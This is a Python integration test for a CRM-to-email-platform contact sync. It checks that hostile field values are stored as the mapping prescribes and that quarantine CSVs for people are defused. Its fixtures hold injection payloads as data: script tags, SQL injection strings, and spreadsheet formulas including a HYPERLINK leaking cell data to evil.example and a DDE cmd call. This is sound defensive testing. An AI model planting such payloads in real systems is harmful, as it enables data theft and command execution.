"""Hostile text from the CRM and the loyalty partner, through one whole contact-sync night.

HTML, formulas (also after an embedded delimiter), SQL-ish text, overlong values, control
characters, and bytes that do not decode. The prescription: text the ESP stores is the text
the mapping says (HTML and SQL-ish verbatim: they are data, escaping is the renderer's job;
overlong values cut at the mapping's max_length; control characters stripped), nothing is
lost or subscribed wrongly, and every CSV written for people defuses formulas in every
delimiter-split segment and holds no raw control character.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import unicodedata

import pytest

from tests.integration.dags.expected_contacts import loyalty_tiers
from tests.reliability.checker import Outcome, check_contacts, expected_contacts, members, norm
from tests.reliability.conftest import run_dag

pytestmark = pytest.mark.slow
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
FORMULA_START = re.compile(r"(^|[,;|\t])\s*[=+\-@]")
HOSTILE = [
    {"firstname": "<img src=x onerror=alert(1)>", "lastname": '</td><script>alert("x")</script>'},
    {"lastname": '=HYPERLINK("http://evil.example/?d="&A1,"Klick")', "city": "x;=cmd|' /C calc'!A0"},
    {"city": "Robert'); DROP TABLE contacts;--", "firstname": "1' OR '1'='1"},
    {"firstname": "A" * 5000, "city": "Ü" * 300},
    {"lastname": "Mül\x00ler\x1b[31m\x07", "city": "Ber\x7flin"},
    {"firstname": "+1+2\x1b", "lastname": "@SUM(A1:A9)", "date_of_birth": "31.02.1990"},  # quarantined
]
FIELD = {"firstname": "FNAME", "lastname": "LNAME", "city": "CITY"}


ANSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b[@-_]")


def clean(value: str) -> str:
    """`control_chars: strip` (terminal escape sequences go whole, tab/CR/LF become a space, other
    control characters go), then the mapping's strip, collapse_spaces, nfc; 100 characters max."""
    value = CONTROL.sub("", re.sub(r"\r\n|[\t\n\r]", " ", ANSI.sub("", value)))
    text = re.sub(r"\s+", " ", value.strip())
    return unicodedata.normalize("NFC", text)[:100]


def _hostile_loyalty_file(sb, day: str) -> dict[str, str]:
    """The day's file plus rows with hostile names; returns the file's tiers as a person reads them."""
    path = sb.loyalty_path(day)
    data = path.read_bytes()
    extra = [
        b'C9999991;G;100;01.01.2020;=HYPERLINK("http://evil.example","x")',  # unknown id: ignored
        b"C9999992;X;100;01.01.2020;@SUM(1+1);=cmd",  # bad tier + extra column: quarantined
        b"C9999993;S;100;01.01.2020;<script>alert(1)</script>\x81\xff",  # bytes cp1252 lacks
        b"C9999994;Q;100;01.01.2020;Tab\tNul\x00Esc\x1b",  # bad tier, control characters
    ]
    rows = data.count(b"\r\n") - 1 + len(extra)
    data += b"\r\n".join(extra) + b"\r\n"
    path.write_bytes(data)
    path.with_name(path.name + ".done").write_text(
        f"{hashlib.sha256(data).hexdigest()}  {path.name}\n# rows: {rows}\n", encoding="ascii"
    )
    return loyalty_tiers(data.replace(b"\x81", b"?"))


def _people_csvs(staging) -> list:
    return [p for p in staging.rglob("*.csv") if "quarantine" in p.name or "rejected" in p.name]


def _unsafe_cells(path) -> list[str]:
    text = path.read_text(encoding="utf-8", errors="replace")
    bad = [f"raw control character {m.group(0)!r}" for m in CONTROL.finditer(text)][:3]
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if FORMULA_START.search(cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell.strip()):
                bad.append(cell[:40])
    return bad


def test_hostile_text_is_stored_as_prescribed_and_defused_for_people(
    world, connections, tmp_path, recorder, clock, capfd
):
    from mailsync.hooks.crm import CrmHook

    by_email: dict[str, list] = {}
    for c in world.crm_contacts():
        by_email.setdefault(norm(c["properties"].get("email")), []).append(c)
    before = members(world)
    plain = expected_contacts(world, before, {})
    victims = [cs[0] for e, cs in by_email.items() if len(cs) == 1 and e in plain][: len(HOSTILE)]
    world.set_clock("2026-11-19T12:00:00Z")
    CrmHook().call(
        "POST",
        "crm/v3/objects/contacts/batch/update",
        json={
            "inputs": [{"id": str(c["id"]), "properties": p} for c, p in zip(victims, HOSTILE, strict=True)]
        },
        write=True,
    )
    world.set_clock(None)
    tiers = _hostile_loyalty_file(world, "2026-11-19")
    expected = expected_contacts(world, before, tiers)
    for contact, props in zip(victims, HOSTILE, strict=True):
        email = norm(contact["properties"]["email"])
        if "date_of_birth" in props:
            assert email not in expected  # the reference quarantines it too
            continue
        for prop, value in props.items():
            expected[email]["merge_fields"][FIELD[prop]] = clean(value)
    world.clear_requests()
    night = run_dag(
        "crm_to_esp_contacts", "2026-11-20T02:00:00Z", capfd, full_refresh=True, loyalty_wait_minutes=0
    )
    outcome = check_contacts(
        world,
        Outcome(
            case="hostile text (HTML, formulas, SQL-ish, overlong, control chars, undecodable bytes)",
            group="contacts full night",
        ),
        before=before,
        expected=expected,
        requests=world.requests(),
    )
    unsafe = {str(p.name): _unsafe_cells(p) for p in _people_csvs(tmp_path / "staging")}
    unsafe = {k: v for k, v in unsafe.items() if v}
    stored = members(world)
    hostile_ok = all(
        stored.get(norm(c["properties"]["email"]), {}).get("merge_fields", {}).get(FIELD[prop]) == clean(v)
        for c, props in zip(victims, HOSTILE, strict=True)
        if "date_of_birth" not in props
        for prop, v in props.items()
    )
    report = night.report or {}
    outcome.runs = 1
    outcome.inputs = f"{len(HOSTILE)} CRM contacts, 4 loyalty rows"
    outcome.outcome = f"night {night.state}; {report.get('quarantined', '?')} quarantined; people CSVs " + (
        "defused, no raw control chars" if not unsafe else f"UNSAFE: {unsafe}"
    )
    outcome.passed = night.state == "success" and hostile_ok and not unsafe and not outcome.problems()
    recorder.record(outcome, clock)
    assert night.state == "success", (night.failed_tasks, night.errors[-3:])
    assert _people_csvs(tmp_path / "staging"), "the quarantined rows must be in a quarantine file"
    assert not unsafe, unsafe
    assert hostile_ok and not outcome.problems(), (outcome.problems(), outcome.examples)
